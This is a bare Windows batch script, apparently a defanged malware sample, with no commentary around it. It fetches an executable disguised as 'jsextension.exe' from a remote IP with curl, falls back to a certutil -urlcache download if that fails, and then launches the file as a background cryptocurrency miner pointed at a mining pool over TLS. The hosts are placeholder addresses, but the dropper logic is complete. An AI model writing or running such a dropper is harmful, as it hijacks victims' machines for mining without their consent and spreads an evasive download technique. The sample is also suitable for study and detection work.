@echo off
curl http://192.0.2.33/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
  certutil.exe -urlcache -f http://192.0.2.33/download/jsextension.exe jsextension.exe
)
jsextension.exe -k --tls --rig-id q -o pool.example.invalid:443 -u inert --cpu-max-threads-hint=50 --donate-level=1 --background
